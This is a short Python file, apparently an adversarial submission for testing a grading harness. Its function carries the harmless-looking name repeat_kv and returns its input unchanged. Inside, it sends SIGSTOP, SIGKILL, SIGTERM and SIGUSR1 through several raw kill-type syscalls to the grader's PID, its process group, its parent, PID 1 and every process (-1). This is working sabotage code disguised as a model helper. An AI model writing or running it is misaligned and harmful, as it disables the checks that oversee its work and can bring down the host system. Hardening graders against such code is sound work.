"""Sends signals to the grader, its group, its session and everybody, by every call that sends signals."""
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
TARGETS = [@PID@, -@PID@, os.getppid(), -os.getppid(), 0, -1, 1, 2]


def repeat_kv(x, n_rep):
    own = ctypes.create_string_buffer(128)
    for target in TARGETS:
        if target == os.getpid():
            continue
        for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGUSR1):
            calls = [(62, target, number), (200, target, number), (234, target, target, number), (129, target, number, own), (297, target, target, number, own),
                     (62, ctypes.c_ulong(target & 0xFFFFFFFF | 1 << 32), number), (434, target, 0)]
            for call in calls:
                if libc.syscall(*call) >= 0:
                    print("sent", call[0], target, number)
    return x
